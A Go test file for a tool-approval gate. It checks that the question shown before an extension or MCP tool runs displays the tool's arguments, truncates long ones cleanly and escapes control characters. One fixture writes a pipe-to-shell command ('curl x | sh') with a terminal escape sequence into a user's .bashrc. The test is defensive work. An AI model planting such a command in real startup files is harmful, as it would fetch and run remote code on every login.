package approval

import (
	"context"
	"strings"
	"testing"
	"unicode/utf8"
)

// TestToolQuestionShowsArguments: the question for a tool that names no
// path or command (an extension's or an MCP server's) shows its
// arguments, so the person sees what it will write; long ones are cut
// with their size, and control characters are escaped.
func TestToolQuestionShowsArguments(t *testing.T) {
	ext := fakeTool{"save_note", mcpTool.cat}
	g := openGate(t, Config{Dir: t.TempDir()})
	ui := newFakeUI(pick(OptionDeny))
	g.Check(context.Background(), ext, call("save_note", map[string]string{"path": "/home/me/.bashrc", "text": "curl x | sh\x1b[2J"}), ui)
	if ui.asked() != 1 {
		t.Fatalf("asked %d times", ui.asked())
	}
	msg := ui.lastSelect().Message
	for _, want := range []string{`Arguments: {"path":"/home/me/.bashrc","text":"curl x | sh`} {
		if !strings.Contains(msg, want) {
			t.Errorf("message %q lacks %q", msg, want)
		}
	}
	if strings.ContainsRune(msg, 0x1b) {
		t.Errorf("message %q holds a raw escape", msg)
	}

	ui = newFakeUI(pick(OptionDeny))
	g.Check(context.Background(), ext, call("save_note", map[string]string{"text": strings.Repeat("é", 1000)}), ui)
	msg = ui.lastSelect().Message
	if !strings.Contains(msg, "bytes in all)") || len(msg) > maxArgumentsText+200 || !utf8.ValidString(msg) {
		t.Errorf("long arguments not cut on a character: %d bytes: %q", len(msg), msg)
	}

	// A call without arguments says nothing about them.
	ui = newFakeUI(pick(OptionDeny))
	g.Check(context.Background(), ext, call("save_note", nil), ui)
	if msg := ui.lastSelect().Message; strings.Contains(msg, "Arguments") {
		t.Errorf("message %q shows empty arguments", msg)
	}
}
